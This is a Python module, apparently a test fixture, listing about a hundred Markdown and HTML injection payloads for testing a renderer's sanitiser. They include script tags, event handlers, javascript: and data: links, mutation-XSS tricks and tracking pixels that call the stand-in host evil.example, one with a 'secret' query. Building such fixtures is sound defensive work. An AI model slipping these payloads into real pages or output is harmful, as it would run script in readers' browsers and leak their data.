"""Markdown that attacks whoever reads it. `HARM` in a payload calls `window.__harm`, `EVIL` is a host of somebody else.

Every way that a text could run something, load something, or lead somewhere under false words.
"""

EVIL = "https://evil.example"
HARM = "window.__harm=1"

SCRIPTS = [
    f"<script>{HARM}</script>",
    f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    f"<script type=module>{HARM}</script>",
    f"<scr<script>ipt>{HARM}</scr</script>ipt>",
    f"```html\n</code></pre><script>{HARM}</script>\n```",
    f"`</code><script>{HARM}</script>`",
    f"<noscript><p title='</noscript><script>{HARM}</script>'>",
    f"<template><script>{HARM}</script></template>",
    f"<!--><script>{HARM}</script>-->",
    f"<![CDATA[<script>{HARM}</script>]]>",
    f"<?xml version='1.0'?><script>{HARM}</script>",
    f"<title></title><script>{HARM}</script>",
    f"<textarea></textarea><script>{HARM}</script>",
    f"&lt;script&gt;{HARM}&lt;/script&gt;",
    f"&#60;script&#62;{HARM}&#60;/script&#62;",
    f"\\<script>{HARM}\\</script>",
]

HANDLERS = [
    f"<img src=x onerror={HARM}>",
    f'<img src=x onerror="{HARM}"//',
    f"<IMG SRC=x OnErRoR={HARM}>",
    f"<img/src/onerror={HARM}>",
    f"<body onload={HARM}>",
    f"<input autofocus onfocus={HARM}>",
    f"<details open ontoggle={HARM}>x</details>",
    f"<video><source onerror={HARM}></video>",
    f"<audio src=x onerror={HARM}>",
    f"<marquee onstart={HARM}>x</marquee>",
    f'<a href="#" onmouseover="{HARM}">over</a>',
    f"<div style=animation-name:x onanimationstart={HARM}>x</div>",
    f'**bold" onclick="{HARM}** text',
    f'[text](https://example.com "x\\" onmouseover=\\"{HARM}")',
    f'![alt" onerror="{HARM}](x)',
    f'```js" onclick="{HARM}\ncode\n```',
]

LINKS = [
    f"[click](javascript:{HARM})",
    f"[click](JaVaScRiPt:{HARM})",
    f"[click](java\tscript:{HARM})",
    f"[click](&#106;avascript:{HARM})",
    f"[click](javascript&colon;{HARM})",
    f"[click](\x01javascript:{HARM})",
    f"[click](vbscript:{HARM})",
    f"[click](data:text/html,<script>{HARM}</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oYXJtPTE8L3NjcmlwdD4=)",
    f"<javascript:{HARM}>",
    f"[click][ref]\n\n[ref]: javascript:{HARM}",
    f"[click](<javascript:{HARM}>)",
    "[click](file:///etc/passwd)",
    "[click](blob:https://evil.example/1)",
    f"[**nested** ![x](javascript:{HARM})](javascript:{HARM})",
    "[relative](/logout/)",
    "[twice](//evil.example/x)",
    f"[https://example.com]({EVIL}/fake)",
    f"[\u202emoc.elpmaxe](javascript:{HARM})",
    f"[zero\u200bwidth](java\u200bscript:{HARM})",
]

LOADERS = [
    f"![pixel]({EVIL}/?q=secret)",
    f"![pixel][p]\n\n[p]: {EVIL}/p.png",
    "![pixel](//evil.example/p.png)",
    f"[![pixel]({EVIL}/a.png)]({EVIL}/b)",
    f"<img src={EVIL}/p.png>",
    f"<img srcset='{EVIL}/p.png 2x'>",
    f"<picture><source srcset={EVIL}/p.webp></picture>",
    f"<iframe src={EVIL}></iframe>",
    f"<iframe srcdoc='<script>parent.{HARM}</script>'></iframe>",
    f"<object data={EVIL}/x.swf></object>",
    f"<embed src={EVIL}/x.swf>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=prefetch href={EVIL}/x>",
    f"<style>@import '{EVIL}/x.css'; body {{ display: none }}</style>",
    f'<p style="background:url({EVIL}/x.png)">x</p>',
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    f"<form action={EVIL}><input name=q><button>Send</button></form>",
    f"<button formaction={EVIL}>x</button>",
    f"<video src={EVIL}/v.mp4 poster={EVIL}/p.png autoplay></video>",
    f"<table background={EVIL}/x.png><tr><td>x</td></tr></table>",
    f"| a |\n| - |\n| ![x]({EVIL}/t.png) |",
    f"> ![x]({EVIL}/quoted.png)",
    f"1. ![x](<{EVIL}/list item.png>)",
]

FOREIGN = [
    f"<svg onload={HARM}></svg>",
    f"<svg><script>{HARM}</script></svg>",
    f"<svg><a xlink:href='javascript:{HARM}'><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={HARM}>#x'/></svg>",
    f"<svg><foreignObject><iframe src={EVIL}></iframe></foreignObject></svg>",
    f"<svg><animate onbegin={HARM} attributeName=x dur=1s></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HARM}></style></mglyph></table></mtext></math>",
    f"<math><a xlink:href='javascript:{HARM}'>x</a></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={HARM}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={HARM}>">',
]

ODD = [
    f"<a\u2028href=javascript:{HARM}>x</a>",
    f"\ufeff<script>{HARM}</script>",
    f"\uff1cscript\uff1e{HARM}\uff1c/script\uff1e",
    f"<\u017fcript>{HARM}</\u017fcript>",
    f"{'> ' * 60}<script>{HARM}</script>",
    f"{'[' * 300}x{']' * 300}(javascript:{HARM})",
    f"{'*' * 500}<img src=x onerror={HARM}>",
    "<a name=app id=composer>clobber</a><form id=transcript><input name=children></form>",
    "<div id=text class=question__text>fake</div>",
    "<dialog open>Your session has ended</dialog>",
]

PAYLOADS = [*SCRIPTS, *HANDLERS, *LINKS, *LOADERS, *FOREIGN, *ODD]
